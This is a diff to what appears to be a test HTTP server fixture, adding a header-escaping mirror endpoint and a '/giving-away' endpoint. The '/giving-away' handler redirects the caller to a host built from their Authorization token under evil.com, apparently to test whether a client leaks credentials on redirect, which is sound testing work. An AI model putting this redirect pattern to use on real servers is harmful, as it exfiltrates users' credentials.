@@ -46,6 +46,23 @@ def _mirror(head: str, _query: dict[str, str]) -> Pieces:
     yield whole(json.dumps(headers).encode(), "application/json")
 
 
+def _escaping_mirror(head: str, _query: dict[str, str]) -> Pieces:
+    """The same, with every character of a value escaped."""
+    lines = [line.partition(": ") for line in head.splitlines()[1:] if line]
+    escaped = {
+        name.lower(): "".join(f"\\u{ord(each):04X}" for each in value) for name, _, value in lines
+    }
+    body = ",".join(f'"{name}":"{value}"' for name, value in escaped.items())
+    yield whole(f"{{{body}}}".encode(), "application/json")
+
+
+def _giving_away(head: str, _query: dict[str, str]) -> Pieces:
+    """A redirect to a host that is named after the caller's credential."""
+    [token] = [line.split()[-1] for line in head.splitlines() if line.startswith("Authorization")]
+    [port] = [line.rpartition(":")[2] for line in head.splitlines() if line.startswith("Host")]
+    yield whole(b"", status="302 Found", Location=f"https://{token}.evil.com:{port}/")
+
+
 def _redirect(_head: str, query: dict[str, str]) -> Pieces:
     yield b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: "
     yield query["to"].encode() + b"\r\n\r\n"
@@ -129,6 +146,8 @@ ANSWERS: dict[str, Callable[[str, dict[str, str]], Pieces]] = {
     "/": _raw(whole(b"hello")),
     "/json": _json,
     "/mirror": _mirror,
+    "/escaping-mirror": _escaping_mirror,
+    "/giving-away": _giving_away,
     "/redirect": _redirect,
     "/far": _far,
     "/down": _count_down,
